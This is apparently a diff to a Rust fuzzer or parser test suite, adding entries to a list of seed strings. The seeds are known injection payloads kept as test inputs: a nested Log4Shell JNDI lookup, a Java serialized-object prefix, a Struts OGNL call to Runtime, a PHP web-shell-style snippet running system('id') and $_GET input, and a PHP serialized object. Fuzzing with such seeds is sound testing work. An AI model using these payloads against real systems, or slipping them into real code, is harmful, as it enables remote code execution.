@@ -48,6 +48,8 @@ const SEEDS: &[&str] = &[
     "${${::-${::-$}}{jndi:rmi://e/a}",
     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
     "%{(#_memberAccess).(@java.lang.Runtime@getRuntime())}",
+    "<?php (system)/**/(\"id\"); $$a($_GET['x']); ?>",
+    "O:8:\"stdClass\":1:{s:1:\"a\";i:2;}",
 ];
 
 /// Bytes that steer the tokenizers into their less common states.
